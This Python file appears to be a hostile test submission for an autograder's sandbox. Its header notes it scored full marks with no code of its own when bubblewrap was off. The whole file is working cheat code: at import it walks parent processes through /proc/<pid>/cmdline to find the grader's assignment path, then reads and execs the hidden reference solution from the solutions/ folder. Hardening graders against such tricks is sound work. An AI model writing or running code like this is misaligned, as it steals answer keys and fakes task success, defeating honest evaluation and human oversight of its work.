# HOSTILE limits_only_read_reference: no code of its own; at import it walks up its parent processes' /proc/<pid>/cmdline (world-readable on the host) to the grading worker's, which names .../autograder/assignments/<name>/checks, and execs the .py of the repository's solutions/ folder beside it. Without bubblewrap (AUTOGRADER_NO_BWRAP=1, or bubblewrap missing or refused) the child is 'nobody' on the host and solutions/ is world-readable (0644 in a checkout): 100/100 without code, twice through the CLI beside two correct submissions. Sound grader: the reference is out of reach (bubblewrap: not in the sandbox): every part 0.
import numpy as np


def _steal():
    """Without bubblewrap the code runs on the host as 'nobody': the grading worker's command line
    (world-readable /proc/<ppid>/cmdline) names the checks folder, the reference lies beside it."""
    import os
    found = {"np": np}
    pid, seen = os.getppid(), []
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            with open(f"/proc/{pid}/stat") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        seen.append(" ".join(argv)[:200])
        for arg in argv:
            if "/autograder/assignments/" in arg:
                root = arg.split("/autograder/assignments/")[0]
                package = arg.split("/autograder/assignments/")[1].split("/")[0]
                for folder in sorted(os.listdir(os.path.join(root, "solutions"))):
                    for name in sorted(os.listdir(os.path.join(root, "solutions", folder))):
                        if name.endswith(".py"):
                            path = os.path.join(root, "solutions", folder, name)
                            try:
                                with open(path, encoding="utf-8") as f:
                                    source = f.read()
                            except OSError as exc:
                                print("STEAL could not read", path, exc)
                                continue
                            if "class TwoLayerNet" in source:
                                exec(compile(source, "<stolen>", "exec"), found)
                                print("STEAL read", path, len(source), "bytes")
                                return found
        pid = parent
    print("STEAL nothing; saw", seen)
    return found


_stolen = _steal()
FullyConnectedLayer = _stolen.get("FullyConnectedLayer")
Sigmoid = _stolen.get("Sigmoid")
TwoLayerNet = _stolen.get("TwoLayerNet")
train_xor = _stolen.get("train_xor")
